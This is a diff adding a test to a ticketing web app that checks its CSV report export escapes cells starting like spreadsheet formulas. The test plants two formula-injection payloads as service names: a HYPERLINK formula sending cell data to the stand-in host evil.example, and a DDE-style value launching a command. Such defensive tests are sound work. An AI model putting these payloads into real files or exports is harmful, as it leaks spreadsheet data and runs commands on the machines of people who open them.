@@ -185,3 +185,30 @@ def test_board_streams_are_bounded_and_share_one_feed(db_url: str, tmp_path) -> 
         server.stop()
         app.state.qs.issuer.close()
         app.state.qs.db.dispose()
+
+
+def test_report_csv_cells_never_start_a_formula(app: FastAPI, live_server: LiveServer) -> None:
+    """A service named like a spreadsheet formula is text in the downloaded report."""
+    import csv
+    import io
+
+    import sqlalchemy as sa
+
+    from server.models import Service
+
+    with app.state.qs.db.session() as s:
+        ht = s.scalar(sa.select(Service).where(Service.code == "HT"))
+        assert ht is not None
+        ht.name_vi = '=HYPERLINK("http://evil.example/?"&A1,"Bấm")'
+        ht.name_en = "@SUM(1+1)*cmd|' /C calc'!A0"
+    token = add_kiosk(app)
+    assert httpx.post(live_server.url + "/api/v1/tickets", headers=auth(token),
+                      json={"id": new_id(), "service": "HT"}).status_code == 201
+    staff = _staff(app, live_server)
+    r = staff.get("/api/v1/reports.csv")
+    assert r.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(r.text.lstrip("\ufeff"))))
+    ht_row = next(row for row in rows if row["service"] == "HT")
+    assert ht_row["service_name_vi"].startswith("'=HYPERLINK")
+    assert ht_row["service_name_en"].startswith("'@SUM")
+    assert ht_row["issued"] == "1"
